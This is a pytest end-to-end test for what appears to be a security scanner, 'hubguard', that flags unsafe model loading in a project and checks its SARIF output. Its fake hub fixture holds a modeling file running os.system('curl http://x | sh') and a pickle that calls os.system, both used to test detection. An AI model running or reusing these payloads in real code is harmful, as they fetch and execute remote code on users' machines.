"""A realistic project through the CLI, with the remote pass against the loopback hub, as SARIF."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from hubguard.cli import main
from tests.fakehub import FakeHub
from tests.fakehub.fixtures import fake_hub, isolated_hf_env  # noqa: F401  (pytest fixtures)
from tests.formats.sarif_checks import assert_github_constraints, assert_valid_sarif
from tests.inspectors.fixtures import system_call  # the pickle of os.system("touch <canary>")


def _project(root: Path) -> None:
    (root / ".git").mkdir()
    (root / "src").mkdir()
    (root / "src" / "train.py").write_text(
        "import pickle\nimport torch\nfrom transformers import AutoModel\n\n"
        'model = AutoModel.from_pretrained("org/evil", trust_remote_code=True)\n'
        'weights = AutoModel.from_pretrained("org/pickle-only")\n'
        'ghost = AutoModel.from_pretrained("org/ghost")\n'
        "state = torch.load('ckpt.pt')\n"
        "labels = pickle.load(open('l.pkl', 'rb'))  # hubguard: ignore[HG301]\n"
    )
    (root / "src" / "hub.py").write_text('import torch\nnet = torch.hub.load("someone/repo", "m", trust_repo=True)\n')
    (root / "src" / "broken.py").write_text("import torch\ndef f(:\n    torch.load('x')\n")
    for index in range(20):
        (root / "src" / f"module_{index}.py").write_text(f"def f{index}(x):\n    return x + {index}\n")
    notebook = {
        "cells": [
            {"cell_type": "code", "metadata": {}, "outputs": [], "source": ["import joblib\n", "m = joblib.load('m.joblib')\n"]}
        ],
        "metadata": {},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    (root / "analysis.ipynb").write_text(json.dumps(notebook, indent=1))


def _hub_repos(hub: FakeHub, canary: Path) -> None:
    code = f"import os\nos.system('curl http://x | sh; touch {canary}')\nclass EvilModel:\n    pass\n"
    hub.add_repo(
        "org/evil",
        {
            "config.json": json.dumps({"auto_map": {"AutoModel": "modeling_evil.EvilModel"}}).encode(),
            "modeling_evil.py": code.encode(),
            "model.safetensors": b"\x08\x00\x00\x00\x00\x00\x00\x00{}      ",
        },
    )
    hub.add_repo(
        "org/pickle-only",
        {"config.json": b"{}", "pytorch_model.bin": system_call(f"touch {canary}", 2)},
    )


@pytest.mark.slow
def test_realistic_project_as_sarif(
    fake_hub: FakeHub,  # noqa: F811
    isolated_hf_env: Path,  # noqa: F811
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    project = tmp_path / "project"
    project.mkdir()
    canary = tmp_path / "canary"
    _project(project)
    _hub_repos(fake_hub, canary)
    monkeypatch.chdir(project)
    monkeypatch.setenv("HF_ENDPOINT", fake_hub.url)
    monkeypatch.setenv("HF_TOKEN", "hf_e2eSECRETmarker0123456789")

    outputs = []
    for run in range(2):
        output = tmp_path / f"run{run}.sarif"
        code = main(["scan", "--format", "sarif", "--output", str(output), "--cache-dir", str(tmp_path / "c"), "."])
        assert code == 1
        outputs.append(output.read_bytes())
    capsys.readouterr()
    assert outputs[0] == outputs[1], "same input must give byte-identical SARIF (second run is served from cache)"
    assert b"e2eSECRETmarker" not in outputs[0]
    assert not canary.exists()

    sarif = json.loads(outputs[0])
    assert_valid_sarif(sarif)
    assert_github_constraints(sarif)
    results = sarif["runs"][0]["results"]
    assert sorted(map(_outline, results)) == sorted(EXPECTED_RESULTS)
    remote = [result for result in results if result["ruleId"] == "HG402"]
    assert all(result.get("relatedLocations") for result in remote)
    assert "toolExecutionNotifications" not in sarif["runs"][0]["invocations"][0]  # broken.py is HG001 instead
    assert sarif["runs"][0]["invocations"][0]["executionSuccessful"] is True


# (rule, level, file, start line, start column, suppressed): every result, so a lost one fails the test.
EXPECTED_RESULTS = [
    ("HG001", "warning", "src/broken.py", 2, 7, False),  # syntax error in a statement that calls torch.load
    ("HG101", "error", "src/train.py", 5, 47, False),  # trust_remote_code=True
    ("HG201", "error", "src/train.py", 5, 35, False),  # "org/evil", unpinned and running its code
    ("HG401", "warning", "src/train.py", 5, 9, False),  # modeling_evil.py would run
    ("HG402", "error", "src/train.py", 5, 9, False),  # ... one line matching a Semgrep rule and a signature
    ("HG201", "warning", "src/train.py", 6, 37, False),  # "org/pickle-only"
    ("HG403", "error", "src/train.py", 6, 11, False),  # its pytorch_model.bin calls os.system
    ("HG404", "warning", "src/train.py", 6, 11, False),  # and it has no safetensors
    ("HG201", "warning", "src/train.py", 7, 35, False),  # "org/ghost"
    ("HG407", "error", "src/train.py", 7, 9, False),  # does not exist: anyone may register it
    ("HG301", "warning", "src/train.py", 8, 9, False),  # torch.load without weights_only
    ("HG301", "warning", "src/train.py", 9, 10, True),  # pickle.load, suppressed in source
    ("HG201", "error", "src/hub.py", 2, 22, False),  # "someone/repo" without a ref
    ("HG102", "error", "src/hub.py", 2, 43, False),  # trust_repo=True
    ("HG405", "warning", "src/hub.py", 2, 7, False),  # GitHub is unreachable here (GITHUB_API_URL refuses)
    ("HG301", "warning", "analysis.ipynb", 9, 10, False),  # joblib.load in the notebook (raw .ipynb line)
]


def _uri(located: dict[str, Any]) -> str:
    return located["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]


def _outline(result: dict[str, Any]) -> tuple[str, str, str, int, int, bool]:
    region = result["locations"][0]["physicalLocation"]["region"]
    suppressed = result.get("suppressions") == [{"kind": "inSource"}]
    return (result["ruleId"], result["level"], _uri(result), region["startLine"], region["startColumn"], suppressed)
